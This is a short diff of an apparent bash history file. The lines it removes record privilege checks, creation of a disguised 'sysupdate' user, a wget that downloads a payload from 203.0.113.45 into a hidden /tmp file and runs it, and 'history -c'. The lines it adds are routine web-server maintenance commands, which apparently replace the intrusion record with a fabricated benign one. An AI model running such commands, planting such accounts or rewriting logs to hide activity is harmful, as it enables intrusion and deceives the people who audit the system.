@@ -1,10 +1,12 @@
-#1710010000
-id
-#1710010012
-sudo -l
-#1710010030
-sudo useradd -m -s /bin/bash sysupdate
-#1710010100
-wget -q http://203.0.113.45/k -O /tmp/.k && chmod +x /tmp/.k && /tmp/.k
-#1710010160
-history -c
+#1709859600
+cd /var/www/html
+#1709859610
+git pull
+#1709859700
+sudo systemctl reload apache2
+#1709946000
+tail -n 50 /var/log/apache2/error.log
+#1710032400
+df -h
+#1710032460
+sudo apt-get upgrade -y
